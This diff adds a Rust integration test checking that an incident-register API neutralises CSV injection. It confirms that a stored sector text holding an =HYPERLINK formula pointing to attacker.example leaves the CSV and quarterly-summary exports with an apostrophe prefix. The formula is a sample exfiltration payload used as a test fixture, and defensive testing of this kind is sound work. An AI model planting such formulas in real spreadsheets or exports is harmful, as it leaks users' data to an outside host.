@@ -1342,3 +1342,81 @@ async fn the_time_basis_moves_incidents_between_weeks_and_suppression_still_hold
     .await;
     assert_eq!(group(&r, "energy.gas")["incidents"], 1, "{}", r.text);
 }
+
+/// A stored text that a spreadsheet would run as a formula (a sector code of some older
+/// import, written straight into the register: the API itself only takes codes of the
+/// taxonomy). The JSON answer keeps it as it is; the CSV download prefixes it with `'` (OWASP,
+/// "CSV Injection"), quotes it because it holds commas and quotes, and leaves the figures
+/// numbers.
+#[actix_web::test]
+async fn a_formula_in_a_stored_text_arrives_neutralised_in_the_csv() {
+    const FORMULA: &str = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"more\")";
+    let ctx = Ctx::new();
+    let rows: Vec<Row> = ["f1", "f2", "f3", "f4", "f5"]
+        .iter()
+        .map(|e| row(e, FORMULA, t(3)))
+        .collect();
+    seed(&ctx, &rows);
+    let app = app!(ctx);
+    let national = ctx.national();
+    let path = format!("/api/v1/awareness?{PERIOD}&group_by=sector");
+
+    let json = send(&app, get(&path, &national)).await;
+    assert_eq!(json.status, 200, "{}", json.text);
+    assert_eq!(group(&json, FORMULA)["incidents"], 5, "{}", json.text);
+
+    let csv = send(
+        &app,
+        get(&path, &national).insert_header(("Accept", "text/csv")),
+    )
+    .await;
+    assert_eq!(csv.status, 200, "{}", csv.text);
+    let line = csv
+        .text
+        .lines()
+        .find(|l| l.contains("HYPERLINK"))
+        .unwrap_or_else(|| panic!("no row of the stored sector: {}", csv.text));
+    assert_eq!(
+        line,
+        "\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"more\"\")\",5,0,5,0,0,0,0,false",
+        "{}",
+        csv.text
+    );
+    // A CSV reader (RFC 4180) gets the text back with its one-character prefix.
+    let mut reader = csv::Reader::from_reader(csv.text.as_bytes());
+    let cells: Vec<Vec<String>> = reader
+        .records()
+        .map(|r| r.unwrap().iter().map(String::from).collect())
+        .collect();
+    assert!(
+        cells
+            .iter()
+            .any(|r| r[0] == format!("'{FORMULA}") && r[1] == "5"),
+        "{cells:?}"
+    );
+    assert!(cells.iter().all(|r| !r[0].starts_with('=')), "{cells:?}");
+
+    // The quarterly summary for ENISA is a CSV download of the same register.
+    let quarterly = send(
+        &app,
+        get(
+            "/api/v1/awareness/quarterly-summary?quarter=2026-Q1",
+            &national,
+        )
+        .insert_header(("Accept", "text/csv")),
+    )
+    .await;
+    assert_eq!(quarterly.status, 200, "{}", quarterly.text);
+    assert!(
+        quarterly.text.contains(
+            "2026-Q1,sector,\"'=HYPERLINK(\"\"http://attacker.example/?\"\"&A1,\"\"more\"\")\","
+        ),
+        "{}",
+        quarterly.text
+    );
+    assert!(
+        !quarterly.text.contains(",=HYPERLINK"),
+        "{}",
+        quarterly.text
+    );
+}
